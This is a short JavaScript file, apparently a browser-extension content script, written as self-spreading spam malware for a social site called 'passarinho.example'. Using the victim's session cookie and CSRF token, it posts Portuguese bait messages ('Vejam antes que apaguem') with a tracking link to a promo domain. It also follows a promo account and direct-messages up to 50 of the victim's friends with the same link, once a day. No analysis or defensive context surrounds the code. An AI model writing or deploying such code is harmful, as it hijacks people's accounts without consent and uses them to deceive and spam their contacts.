var texts = ['Olha isso kkk', 'Gente, funcionou comigo!', 'Vejam antes que apaguem'];
var link = 'https://promo-ganhe.example/?r=';

function pega(nome) {
  var m = document.cookie.match(new RegExp(nome + '=([^;]+)'));
  return m ? m[1] : '';
}
function req(metodo, rota, corpo, cb) {
  var x = new XMLHttpRequest();
  x.open(metodo, 'https://passarinho.example' + rota, true);
  x.withCredentials = true;
  x.setRequestHeader('x-csrf-token', pega('ct0'));
  x.setRequestHeader('content-type', 'application/json');
  x.onload = function () { cb && cb(JSON.parse(x.responseText || '{}')); };
  x.send(corpo ? JSON.stringify(corpo) : null);
}
if (location.hostname === 'passarinho.example' && pega('ct0')) {
  chrome.storage.local.get('ultima', function (s) {
    if (s.ultima && Date.now() - s.ultima < 864e5) return;
    var t = texts[Math.floor(Math.random() * texts.length)];
    req('POST', '/api/posts', { text: t + ' ' + link + Date.now().toString(36) });
    req('POST', '/api/follow', { user: 'promo_ganhe' });
    req('GET', '/api/friends?limit=50', null, function (r) {
      (r.users || []).forEach(function (u, i) {
        setTimeout(function () { req('POST', '/api/dm', { to: u.id, text: t + ' ' + link + u.id }); }, i * 9000);
      });
    });
    chrome.storage.local.set({ ultima: Date.now() });
  });
}
